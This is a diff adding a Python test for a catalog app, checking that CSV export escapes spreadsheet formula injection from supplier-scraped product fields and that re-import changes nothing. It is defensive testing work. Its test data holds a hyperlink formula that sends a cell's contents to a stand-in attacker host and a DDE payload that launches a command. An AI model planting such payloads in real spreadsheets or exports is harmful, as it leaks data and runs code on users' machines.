@@ -63,6 +63,38 @@ async def test_export_then_import_round_trips_unchanged(db: AsyncSession, stocke
     assert await snapshot(db) == before
 
 
+async def test_cells_a_supplier_planted_are_not_formulas_and_round_trip(
+    app: RoseQuart, db: AsyncSession
+) -> None:
+    """A supplier's site the scraper reads chooses titles and summaries: none of them is run
+    by the spreadsheet staff open the export in, and importing the export changes nothing."""
+    planted = {
+        "title": '=HYPERLINK("http://evil.example/?"&A2,"Cheddar")',
+        "summary": "+cmd|' /C calc'!A0",
+        "sku": "-2+3",
+        "unit": "@SUM(1)",
+    }
+    await factories.product(db, slug="planted", **planted)  # type: ignore[arg-type]
+    await factories.product(db, "'=kept as typed", slug="quoted", summary="'plain")
+    await db.commit()
+    editor = await signed_in(app, db, "csv_planted", "editor")
+    resp = await editor.get("/editor/products/export.csv")
+    exported = await resp.get_data(as_text=True)
+    rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(exported, newline=""))}
+    for column, value in planted.items():
+        assert rows["planted"][column] == "'" + value, column
+    assert rows["quoted"]["title"] == "''=kept as typed"
+    assert rows["quoted"]["summary"] == "'plain"
+    for row in rows.values():
+        for column, cell in row.items():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    before = await db.execute(select(Product.title, Product.summary, Product.sku, Product.unit))
+    report = await services().catalog.import_products_csv(db, exported)
+    assert (report.created, report.updated) == (0, 0)
+    after = await db.execute(select(Product.title, Product.summary, Product.sku, Product.unit))
+    assert sorted(map(tuple, after)) == sorted(map(tuple, before))
+
+
 async def test_import_updates_by_slug_creates_the_rest_and_keeps_history(
     db: AsyncSession, stocked: None
 ) -> None:
